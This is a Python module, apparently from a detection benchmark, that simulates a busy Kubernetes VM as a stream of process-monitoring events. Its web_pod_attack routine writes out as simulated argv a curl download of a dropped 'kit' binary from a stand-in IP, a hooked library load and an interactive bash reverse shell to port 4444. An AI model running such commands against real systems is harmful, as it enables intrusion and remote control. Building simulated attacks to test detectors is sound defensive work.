"""What a busy Kubernetes guest does, as a stream of CSM events.

A workload boots (init, system daemons, pods found by enumeration), then
runs a weighted mix of activities, several at once and interleaved the way
a kernel reports them: liveness probes exec'ing into containers, cron jobs,
kubectl exec sessions, package builds with deep and wide trees, bursts of
short-lived shell commands, web-server workers being replaced, and now and
then the attack of the web-pod vector.
"""

import random
from collections.abc import Callable, Iterator

from bench.guest import (
    Clock,
    GuestBoot,
    SimContainer,
    SimProcess,
    pipe_streams,
    socket_streams,
    tty_streams,
)
from csm_wire.gen import schema_pb2 as pb

Activity = Iterator[pb.Event]
# Activities in flight at once; their events interleave.
CONCURRENT_ACTIVITIES = 6
SHORT_COMMANDS = (
    ("/bin/date", ["date", "+%s"]),
    ("/bin/grep", ["grep", "-c", "ERROR", "/var/log/app.log"]),
    ("/bin/sed", ["sed", "-n", "1p", "/etc/os-release"]),
    ("/usr/bin/awk", ["awk", "{print $1}", "/proc/loadavg"]),
    ("/bin/cat", ["cat", "/proc/meminfo"]),
    ("/usr/bin/head", ["head", "-n", "20", "/var/log/syslog"]),
    ("/usr/bin/tr", ["tr", "a-z", "A-Z"]),
)
SESSION_COMMANDS = (
    ("/bin/ls", ["ls", "-la"]),
    ("/bin/ps", ["ps", "aux"]),
    *SHORT_COMMANDS,
)
PODS = (
    ("shop", "web", "nginx", "docker.io/library/nginx:1.27", "/usr/sbin/nginx"),
    ("shop", "api", "api", "registry.local/shop/api:4.2", "/usr/local/bin/gunicorn"),
    ("ci", "runner", "build", "docker.io/library/gcc:14", "/bin/sh"),
    (
        "ops",
        "metrics",
        "agent",
        "quay.io/prometheus/node-exporter:1.8",
        "/bin/node_exporter",
    ),
)


class GuestWorkload:
    """The endless event stream of one simulated VM."""

    def __init__(self, seed: int | str, *, real_time: bool = False) -> None:
        self.rng = random.Random(seed)
        self.boot = GuestBoot(self.rng, Clock(self.rng, real_time=real_time))
        self.containers: list[SimContainer] = []
        self.shims: dict[int, SimProcess] = {}
        self.servers: list[SimProcess] = []
        self.system: dict[str, SimProcess] = {}
        self._activities: list[tuple[int, Callable[[], Activity]]] = [
            (30, self.liveness_probe),
            (20, self.short_lived_burst),
            (8, self.cron_job),
            (5, self.worker_respawn),
            (4, self.kubectl_exec),
            (2, self.package_build),
            (1, self.web_pod_attack),
        ]

    @property
    def uuids(self) -> list[bytes]:
        """Every process UUID minted so far."""
        return self.boot.uuids

    def events(self) -> Iterator[pb.Event]:
        """Boot, then interleave activities forever."""
        yield from self.startup()
        active: list[Activity] = []
        weights = [weight for weight, _ in self._activities]
        starters = [start for _, start in self._activities]
        while True:
            while len(active) < CONCURRENT_ACTIVITIES:
                active.append(self.rng.choices(starters, weights)[0]())
            activity = self.rng.choice(active)
            event = next(activity, None)
            if event is None:
                active.remove(activity)
            else:
                yield event

    def startup(self) -> Activity:
        """What monitoring finds at start, then the pods' own containers."""
        boot = self.boot
        init, event = boot.existing("/sbin/init", pid=1)
        yield event
        for name in ("systemd-journald", "containerd", "kubelet", "cron", "sshd"):
            binary = f"/usr/bin/{name}"
            self.system[name], event = boot.existing(binary, init)
            yield event
        count = self.rng.randint(2, len(PODS))
        for namespace, app, name, image, binary in PODS[:count]:
            yield from self.start_pod(namespace, app, name, image, binary)

    def start_pod(
        self, namespace: str, app: str, name: str, image: str, binary: str
    ) -> Activity:
        """A shim, the container's init and, for servers, its workers."""
        boot = self.boot
        pod = f"{app}-{self.rng.randrange(16**6):06x}-{self.rng.randrange(16**5):05x}"
        shim, events = boot.spawn(
            self.system["containerd"],
            "/usr/bin/containerd-shim-runc-v2",
            ["containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", pod],
            streams=pipe_streams(),
        )
        yield from events
        container = boot.new_container(
            namespace, pod, name, image, (f"app={app}", f"pod-template-hash={pod}")
        )
        init, clone = boot.fork(shim)
        init.container = container
        init.container_pid = container.allocate_pid()
        container.init = init
        self.containers.append(container)
        self.shims[container.container_id] = shim
        yield clone
        yield boot.execute(init, binary, [binary.rsplit("/", 1)[-1]])
        yield boot.container_info(container)
        if binary.endswith(("nginx", "gunicorn")):
            self.servers.append(init)
            for _ in range(self.rng.randint(2, 8)):
                _, clone = boot.fork(init)
                yield clone

    def _enter(self, container: SimContainer, tag: int) -> tuple[SimProcess, pb.Event]:
        """A process entering ``container`` from outside, as runc exec does."""
        shim = self.shims[container.container_id]
        process, clone = self.boot.fork(shim)
        process.container = container
        process.container_pid = container.allocate_pid()
        process.exec_session_id = tag
        return process, clone

    def liveness_probe(self) -> Activity:
        """The kubelet's exec probe: a shell that runs a check and leaves."""
        boot = self.boot
        container = self.rng.choice(self.containers)
        shell, clone = self._enter(container, boot.allocate_tag())
        yield clone
        url = "http://127.0.0.1:8080/healthz"
        yield boot.execute(shell, "/bin/sh", ["sh", "-c", f"wget -qO- {url}"])
        check, events = boot.spawn(shell, "/usr/bin/wget", ["wget", "-qO-", url])
        yield from events
        yield boot.exit(check)
        yield boot.exit(shell)

    def short_lived_burst(self) -> Activity:
        """A shell script of many quick commands, in a container or not."""
        boot = self.boot
        if self.rng.random() < 0.5:
            parent = self.system["kubelet"]
        else:
            parent = self.rng.choice(self.containers).init or self.system["kubelet"]
        script, events = boot.spawn(parent, "/bin/sh", ["sh", "/usr/lib/check.sh"])
        yield from events
        for _ in range(self.rng.randint(3, 15)):
            binary, argv = self.rng.choice(SHORT_COMMANDS)
            command, events = boot.spawn(script, binary, argv)
            yield from events
            if self.rng.random() < 0.1:
                yield boot.memexec(command, binary, added=False, initial=True)
            yield boot.exit(command)
        yield boot.exit(script)

    def cron_job(self) -> Activity:
        """Cron forks itself, runs a job through sh, and reaps it."""
        boot = self.boot
        cron, clone = boot.fork(self.system["cron"])
        yield clone
        job = "run-parts /etc/cron.hourly"
        yield boot.execute(cron, "/bin/sh", ["sh", "-c", job])
        for binary in ("/usr/sbin/logrotate", "/usr/bin/find", "/bin/gzip"):
            step, events = boot.spawn(cron, binary, [binary.rsplit("/", 1)[-1]])
            yield from events
            yield boot.exit(step)
        yield boot.exit(cron)

    def worker_respawn(self) -> Activity:
        """A web server replaces a worker: a clone, then the old one exits."""
        if not self.servers:
            return
        server = self.rng.choice(self.servers)
        workers = [c for c in server.children if c.binary == server.binary]
        _, clone = self.boot.fork(server)
        yield clone
        if len(workers) > 1:
            yield self.boot.exit(workers[0])

    def kubectl_exec(self) -> Activity:
        """An operator's interactive shell in a container."""
        boot = self.boot
        container = self.rng.choice(self.containers)
        shell, clone = self._enter(container, boot.allocate_tag())
        yield clone
        yield boot.execute(shell, "/bin/bash", ["bash"], streams=tty_streams())
        for _ in range(self.rng.randint(3, 10)):
            binary, argv = self.rng.choice(SESSION_COMMANDS)
            command, events = boot.spawn(shell, binary, argv, streams=tty_streams())
            yield from events
            yield boot.exit(command)
        yield boot.exit(shell)

    def package_build(self) -> Activity:
        """``make`` recursing into directories, each compiling many files."""
        boot = self.boot
        container = next(
            (c for c in self.containers if c.name == b"build"), self.containers[0]
        )
        root = container.init or self.system["kubelet"]
        make, events = boot.spawn(root, "/usr/bin/make", ["make", "-j2"])
        yield from events
        yield from self._make_directory(make, depth=self.rng.randint(2, 4))
        yield boot.exit(make)

    def _make_directory(self, make: SimProcess, depth: int) -> Activity:
        boot = self.boot
        for index in range(self.rng.randint(2, 6)):
            source = f"src/{depth}/file{index}.c"
            gcc, events = boot.spawn(make, "/usr/bin/gcc", ["gcc", "-c", source])
            yield from events
            for stage in ("cc1", "as"):
                tool, events = boot.spawn(gcc, f"/usr/libexec/gcc/{stage}", [stage])
                yield from events
                yield boot.exit(tool)
            yield boot.exit(gcc)
        if depth > 1:
            for sub in range(self.rng.randint(1, 3)):
                child, events = boot.spawn(
                    make, "/usr/bin/make", ["make", "-C", f"dir{sub}"]
                )
                yield from events
                yield from self._make_directory(child, depth - 1)
                yield boot.exit(child)
        linker, events = boot.spawn(make, "/usr/bin/ld", ["ld", "-o", "a.out"])
        yield from events
        yield boot.exit(linker)

    def web_pod_attack(self) -> Activity:
        """The web-pod vector: a dropped binary, a hooked library, a reverse
        shell from a web server."""
        boot = self.boot
        container = self.rng.choice(self.containers)
        shell, clone = self._enter(container, boot.allocate_tag())
        yield clone
        yield boot.execute(shell, "/bin/sh", ["sh"], streams=tty_streams())
        fetch = ["curl", "-so", "/tmp/kit", "http://198.51.100.7/kit"]
        curl, events = boot.spawn(shell, "/usr/bin/curl", fetch)
        yield from events
        yield boot.exit(curl)
        kit, events = boot.spawn(
            shell, "/tmp/kit", ["/tmp/kit", "--quiet"], on_image=False, written_by=curl
        )
        yield from events
        yield boot.memexec(kit, "/tmp/.cache/libhook.so", added=True, initial=False)
        yield boot.exit(kit)
        yield boot.exit(shell)
        if self.servers:
            server = self.rng.choice(self.servers)
            streams = socket_streams(40950, bytes([203, 0, 113, 9]), 4444)
            _, events = boot.spawn(server, "/bin/bash", ["bash", "-i"], streams=streams)
            yield from events
